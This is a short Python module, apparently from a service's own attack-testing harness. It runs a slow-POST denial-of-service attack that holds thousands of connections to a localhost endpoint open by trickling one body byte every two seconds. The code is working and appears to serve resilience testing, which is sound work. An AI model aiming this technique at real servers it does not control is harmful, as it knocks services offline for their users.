"""POST requests whose bodies come at a byte every two seconds: each byte is a sign of life."""

import time

from scripts.attacks.stage import Attack, Stage
from scripts.attacks.stage.crowd import Crowd

__all__ = ["ATTACK"]

_HEAD = b"POST /rta/v2/sessions HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n"


def _strike(stage: Stage) -> None:
    crowd = Crowd(stage.service.port)
    stage.stretch("coming")
    crowd.join(stage.sizes.count, _HEAD)
    stage.stretch("trickling")
    until = time.monotonic() + stage.sizes.seconds
    while time.monotonic() < until and len(crowd):
        crowd.send(b"x")
        crowd.listen(2)
    stage.say(f"{len(crowd)} were open at the end, {crowd.ended} had been ended by the service")
    stage.stretch("leaving")
    crowd.leave()
    time.sleep(2)


ATTACK = Attack(strike=_strike, count=9900, counts="Requests.", seconds=120)
